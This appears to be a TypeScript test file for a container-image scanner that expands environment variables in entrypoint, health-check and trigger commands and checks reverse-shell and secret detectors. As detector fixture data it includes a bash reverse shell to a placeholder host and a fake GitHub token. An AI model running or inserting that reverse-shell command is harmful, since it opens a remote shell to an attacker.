import assert from 'node:assert/strict';
import { test } from 'node:test';
import type { ImageConfig } from '../../core/image.ts';
import { reverseShell } from '../detectors/scripts/reverse-shell/index.ts';
import { environment } from '../detectors/secrets/environment/index.ts';
import { EMPTY_CONFIG, inspectFixture, summary } from '../testing/fixture.ts';
import { commandsOf } from './commands.ts';

const REVERSE = 'bash -i >& /dev/tcp/x.invalid/4444 0>&1';

const cases: readonly { name: string; config: Partial<ImageConfig>; texts: readonly string[] }[] = [
  {
    name: 'variables of the environment are expanded, the last of a name',
    config: {
      env: ['A=1', 'X=old', 'X=a b=c'],
      entrypoint: ['sh', '-c', 'eval "$X" ${A}'],
      cmd: ['${X:-y}'],
    },
    texts: ['sh -c eval "a b=c" 1 a b=c'],
  },
  {
    name: 'one level, and nothing that is not set',
    config: { env: ['X=$Y', 'Y=z', 'E='], entrypoint: ['$X', '$XY', '${Q:-d}', '$E', '$$', '$1'] },
    texts: ['$Y $XY ${Q:-d} $E $$ $1'],
  },
  {
    name: 'in health checks and triggers, not in history',
    config: {
      env: ['X=y'],
      healthcheck: ['CMD-SHELL', '$X'],
      onBuild: ['RUN $X'],
      history: [{ createdBy: 'RUN $X', emptyLayer: true }],
    },
    texts: ['y', 'RUN y', 'RUN $X'],
  },
];

for (const { name, config, texts } of cases) {
  test(`commands: ${name}`, () => {
    const commands = commandsOf({ ...EMPTY_CONFIG, ...config }, () => assert.fail('nothing is cut'));
    assert.deepEqual(
      commands.map(({ text }) => text),
      texts,
    );
  });
}

test('commands: a payload in a variable is found once, a secret where it is set', () => {
  const config = {
    env: [`X=${REVERSE}`, 'TOKEN=ghp_0123456789abcdefghijABCDEFGHIJ012345'],
    entrypoint: ['bash', '-c', 'eval "$X" # $TOKEN'],
  };
  const { findings } = inspectFixture({ layers: [{}], config }, [reverseShell, environment]);
  assert.deepEqual(
    summary(findings).filter((line) => !line.includes('Env.TOKEN')),
    ['block scripts/reverse-shell Entrypoint'],
  );
});

test('commands: what does not fit stays as written, and is a problem', () => {
  const config = { env: [`B=${'b'.repeat(40_000)}`, 'X=y'], entrypoint: ['$B', '$B', '$B', '$X'] };
  const { problems, view } = inspectFixture({ layers: [{}], config }, []);
  assert.deepEqual(
    problems.map(({ code, effect }) => `${code} ${effect}`),
    ['LIMIT_DETECTOR incomplete'],
  );
  assert.match(view.commands[0]?.text ?? '', /^b{40000} \$B \$B y$/);
});
